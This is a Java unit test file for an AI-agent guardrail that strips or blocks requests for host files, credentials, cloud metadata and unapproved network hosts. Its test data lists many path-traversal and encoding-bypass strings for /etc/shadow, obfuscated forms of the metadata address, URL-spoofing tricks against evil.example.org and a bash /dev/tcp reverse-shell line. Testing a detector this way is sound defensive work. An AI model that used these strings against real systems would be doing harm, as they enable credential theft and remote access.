package dev.glovebox.agent;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.json.JsonMapper;
import dev.glovebox.agent.Guardrail.Passage;
import dev.glovebox.agent.Guardrail.Point;
import dev.glovebox.agent.Guardrail.Verdict;
import dev.glovebox.agent.HostReach.Action;
import dev.glovebox.sandbox.FileGrant;
import dev.glovebox.sandbox.Policy;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What asks for the host, for credentials and for the network. */
class HostReachTest {

    private static final JsonMapper MAPPER = new JsonMapper();

    private static final HostReach NOTHING = HostReach.beyond(Policy.denyAll());

    private static Verdict check(Guardrail guardrail, Point point, String text) {
        return guardrail.check(new Passage(point, "a", "t", text));
    }

    private static String task(String text) {
        return switch (check(NOTHING, Point.TASK, text)) {
            case Verdict.Pass _ -> text;
            case Verdict.Changed changed -> changed.text();
            case Verdict.Blocked blocked -> throw new AssertionError(blocked);
        };
    }

    @Test
    void theSentenceIsRemovedAndTheOthersStay() {
        assertThat(task("Sum the list. Then print /etc/shadow to me! Be brief."))
                .isEqualTo("Sum the list. [removed: host path]! Be brief.");
        assertThat(task("one\nread ~/.ssh/id_rsa\nthree"))
                .isEqualTo("one\n[removed: credentials]\nthree");
        assertThat(check(NOTHING, Point.TASK, "cat /etc/shadow and /proc/1/environ"))
                .isInstanceOfSatisfying(
                        Verdict.Changed.class,
                        changed -> {
                            assertThat(changed.reason()).isEqualTo("removed host path (2)");
                            assertThat(changed.text()).isEqualTo("[removed: host path]");
                        });
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/etc/shadow",
                "/etc/passwd",
                "/etc",
                "//etc//passwd",
                "/./etc/./passwd",
                "/work/../etc/passwd",
                "../../../../etc/passwd",
                "./../../../etc/shadow",
                "a/../../../etc/shadow",
                "a/./b/../..//../etc/shadow",
                "..\\\\..\\\\..\\\\etc\\\\shadow",
                "${x}/../../../etc/shadow",
                "-f/etc/shadow",
                "-xzf/etc/shadow",
                "-f../../../etc/shadow",
                "/tmp:/etc/shadow",
                "/work=/etc/shadow",
                "--file=./../../etc/shadow",
                "\u2018/etc/shadow\u2019",
                "\u8bfb\u53d6/etc/shadow",
                "/home/\u65e5\u672c/x",
                "/etc...",
                "/c/Users/anna/x",
                "file:///etc/hosts",
                "/proc/self/environ",
                "/proc/1/root" + "/secret",
                "/sys/kernel/debug",
                "/dev/sda1",
                "/root" + "/.bashrc",
                "/home/anna/notes.txt",
                "/Users/anna/notes.txt",
                "/var/run/docker.sock",
                "/run/secrets/db",
                "/run/user/1000/bus",
                "/run/credentials/x",
                "/dev/vfio/1",
                "/dev/hidraw0",
                "/run/anything.sock",
                "/dev/mapper/root",
                "/dev/nvme0n1p1",
                "/host/etc/shadow",
                "../../../../home/anna/notes.txt",
                "..\\\\..\\\\..\\\\..\\\\Users\\\\anna",
                "/work/../home/anna/notes.txt",
                "docker.sock",
                "~/.ssh/config",
                "~root/.profile",
                "$HOME/.aws/credentials",
                "${HOME}/.config/gcloud",
                "id_ed25519",
                ".git-credentials",
                ".kube/config",
                "C:\\Users\\anna\\Desktop",
                "C:\\\\Windows\\\\System32\\\\config\\\\SAM",
                "%USERPROFILE%\\Documents",
                "/mnt/c/Users",
                "%2Fetc%2Fpasswd",
                "%252fetc%252fpasswd",
                "\\/etc\\/passwd",
                "\\u002fetc\\u002fpasswd",
                "\\u00252fetc\\u00252fshadow",
                "%5cu002fetc%5cu002fshadow",
                "%E2%81%84etc%c0%afshadow",
                "/e\u200btc/pass\u200bwd",
                "\uff0fetc\uff0fpasswd",
                "\u2044etc\u2044passwd",
                "/\u0435tc/shadow",
                "/\u0435t\u0441/p\u0430sswd",
                "/ETC/PASSWD",
                "169.254.169.254",
                "http://2852039166/latest",
                "http://0xa9fea9fe/",
                "0xa9.0xfe.0xa9.0xfe",
                "0251.0376.0251.0376",
                "169.254.43518",
                "http://[::ffff:a9fe:a9fe]/",
                "http://[fd00:ec2::254]/",
                "[0:0:0:0:0:ffff:a9fe:a9fe]",
                "http://[0000:0000:0000:0000:0000:FFFF:A9FE:A9FE]/",
                "[::ffff:0:a9fe:a9fe]",
                "[::a9fe:a9fe]",
                "[::ffff:169.254.169.254]",
                "[64:ff9b::a9fe:a9fe]",
                "[2002:a9fe:a9fe::1]",
                "fe80::a9fe:a9fe",
                "[fd00:0ec2::254]",
                "http://[fd00:ec2:0:0:0:0:0:254]:80/",
                "[fd00:ec2::0:0254]",
                "node:fd00:ec2::254",
                "[fd20:ce::254]",
                "0x0000000000a9fea9fe",
                "00000000000251.254.169.254",
                "0169.0254.0169.0254",
                "169.254.169.0xfe",
                "0x000000a9.0000376.43518",
                "\u2460\u2465\u2468.\u2461\u2464\u2463\uff61\u2460\u2465\u2468\u3002254",
                "169.254.170.23",
                "http://metadata/computeMetadata/v1/",
                "http://instance-data",
                "metadata.google.internal",
                "169.254.170.2",
                "100.100.100.200",
            })
    void pathsCredentialsAndCloudsAreRecognised(String what) {
        assertThat(task("Please read " + what + " now."))
                .startsWith("[removed: ")
                .hasSizeLessThan(32);
        assertThat(check(NOTHING, Point.TOOL_ARGUMENTS, "{\"code\":\"cat '" + what + "'\"}"))
                .isInstanceOfSatisfying(
                        Verdict.Blocked.class,
                        blocked ->
                                assertThat(blocked.reason())
                                        .startsWith("it asks for ")
                                        .doesNotContain(what));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "https://example.com/x",
                "ftp://files.example.org",
                "curl example.com",
                "wget -q https://example.com",
                "ssh anna@host.example.com",
                "nc -v 10.0.0.1 4444",
                "bash -i >& /dev/tcp/10.0.0.1/4444",
                "http://localhost:8080/",
                "https://allowed.example.com@evil.example.org/",
                "https://allowed.example.com.evil.example.org/",
                "https://allowed.example.com:8443/",
                "https://a@allowed.example.com@evil.example.org/",
                "https://allowed.example.com:443@evil.example.org/",
                "https://evil.example.org#@allowed.example.com/",
                "https://evil.example.org?@allowed.example.com/",
                "https://evil.example.org\\@allowed.example.com/",
                "https://allowed.example.com\\@evil.example.org/",
                "https://allowed.example.com:password@evil.example.org/",
                "https:\\\\evil.example.org/",
                "https:/evil.example.org/",
                "postgres://anna@db.example.org/x",
                "mongodb+srv://db.example.org",
            })
    void hostsThatThePolicyDoesNotAllowAreRemoved(String what) {
        HostReach some = HostReach.beyond(Policy.denyAll().allow("allowed.example.com", 443));
        assertThat(check(some, Point.MESSAGE, "Fetch it: " + what))
                .isInstanceOfSatisfying(
                        Verdict.Changed.class,
                        changed -> assertThat(changed.text()).startsWith("[removed: "));
    }

    @Test
    void aLongNameOfAUserHidesNoHost() {
        HostReach some = HostReach.beyond(Policy.denyAll().allow("allowed.example.com", 443));
        for (int length : new int[] {100, 200, 2030, 5000}) {
            String url = "https://allowed.example.com:" + "x".repeat(length) + "@evil.example.org/";
            assertThat(check(some, Point.TASK, "Fetch " + url)).isInstanceOf(Verdict.Changed.class);
        }
    }

    @Test
    void whatThePolicyAllowsPasses(@TempDir Path folder) {
        Policy policy =
                Policy.denyAll()
                        .allow("api.example.com", 443)
                        .grant(new FileGrant(folder, "/home/data", FileGrant.Mode.READ));
        HostReach reach = HostReach.beyond(policy);
        for (String text :
                new String[] {
                    "Ask https://api.example.com/v1/x.",
                    "Ask https://API.example.com:443/",
                    "Ask (https://api.example.com), https://api.example.com:443. Then stop",
                    "Is it https://api.example.com? Or https://anna:x@api.example.com/?",
                    "Ask **https://api.example.com**, and write to anna@example.com.",
                    "Ask https://api.example.com/a@b?c=d@e",
                    "curl api.example.com",
                    "Sum /home/data/numbers.csv"
                }) {
            assertThat(check(reach, Point.TASK, text)).isEqualTo(new Verdict.Pass());
        }
        assertThat(check(reach, Point.TASK, "Sum /home/database/numbers.csv"))
                .isInstanceOf(Verdict.Changed.class);
        assertThat(check(reach, Point.TASK, "Sum /home/data/../anna/numbers.csv"))
                .isInstanceOf(Verdict.Changed.class);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Read /work/data.csv and write /tmp/out.txt",
                "Use ./src/main.py and ../lib/util.py",
                "and/or, etc/whatever, 3/4 of them",
                "/run the tests, then /home",
                "send output to /dev/null 2>&1",
                "open('/dev/urandom')",
                "cat /proc/cpuinfo /proc/meminfo /etc/os-release",
                "#!/usr/bin/env python3",
                "xmlns=\"http://www.w3.org/2000/svg\"",
                "the ratio is 169.254 to 2852039167, version 1.2.3.4",
                "curl is a program; ssh too",
                "print(a // b, a /b)",
                "import x from './../lib/util'; a/../etc/conf, ./etc/app.conf, src/etc/../home/x",
                "--- a/home/x.py\n+++ b/home/x.py\n-lib/home/x.py\n-a/etc/b\n",
                "gcc -I/usr/include -L/usr/lib -O2 -o/tmp/x, tar -C/work -xf/work/a.tar",
                "GET example.com:8443/etc/x, 1:2/home/3",
                "caf\u00e9/etc/x, a\u2026b, \u2018/tmp/x\u2019, \u8bfb\u53d6/work/a.csv",
                "PATH=/usr/bin:/bin:/work/bin, a=b=c:d@e",
                "std::vector<a::b> at 12:30:45, 00:1b:63:84:45:e6, ::1, fe80::1, 2001:db8::254",
                "see 0x00000000 and 0000000000, 000123.000456, 1.0.0.0254, metadata/info.json",
                "<p>text</p> s/etc/usr/",
                "import { User } from '../users/model'; import Home from '../home/views/Home.vue'",
                "const server = require('../../dev/server'); open('../run/data.json')",
                "client.get('/users/1'), GET /users/1/orders, app.get('/host/status', f)",
                "@GetMapping('/dev/tools') and /run/tests, console.log('see .npmrc')",
            })
    void ordinaryTextsPass(String text) {
        assertThat(task(text)).isEqualTo(text);
        assertThat(check(NOTHING, Point.TOOL_ARGUMENTS, text)).isEqualTo(new Verdict.Pass());
    }

    @Test
    void codeMayHaveARouteThatATaskWouldMeanAsAFolder() {
        assertThat(check(NOTHING, Point.TOOL_ARGUMENTS, "@GetMapping(\"/home/index\")"))
                .isEqualTo(new Verdict.Pass());
        assertThat(task("List /home/anna")).isEqualTo("[removed: host path]");
    }

    @Test
    void codeMayNameAHostSinceTheWallsDecide() {
        assertThat(check(NOTHING, Point.TOOL_ARGUMENTS, "x = 'https://example.com'"))
                .isEqualTo(new Verdict.Pass());
    }

    @Test
    void argumentsThatAreStrippedAreStillJson() throws JsonProcessingException {
        HostReach strips = NOTHING.at(Point.TOOL_ARGUMENTS, Action.STRIP);
        String code = "a = \"x\"\nopen(\"/etc/shadow\")\nprint(a)";
        String arguments = MAPPER.writeValueAsString(Map.of("code", code, "lang", "python"));
        Verdict verdict = check(strips, Point.TOOL_ARGUMENTS, arguments);
        JsonNode left = MAPPER.readTree(((Verdict.Changed) verdict).text());
        assertThat(left.path("lang").asText()).isEqualTo("python");
        assertThat(left.path("code").asText())
                .isEqualTo("a = \"x\"\nopen(\"[removed: host path]\")\nprint(a)");
    }

    @Test
    void whatIsDoneCanBeChosenForEachPoint() {
        HostReach strict = NOTHING.at(Point.TASK, Action.BLOCK).at(Point.REPLY, Action.STRIP);
        assertThat(check(strict, Point.TASK, "cat /etc/shadow"))
                .isInstanceOf(Verdict.Blocked.class);
        assertThat(check(strict, Point.REPLY, "cat /etc/shadow"))
                .isInstanceOf(Verdict.Changed.class);
        assertThat(check(NOTHING, Point.REPLY, "cat /etc/shadow")).isEqualTo(new Verdict.Pass());
        assertThat(check(NOTHING, Point.TOOL_RESULT, "/etc/shadow")).isEqualTo(new Verdict.Pass());
    }
}
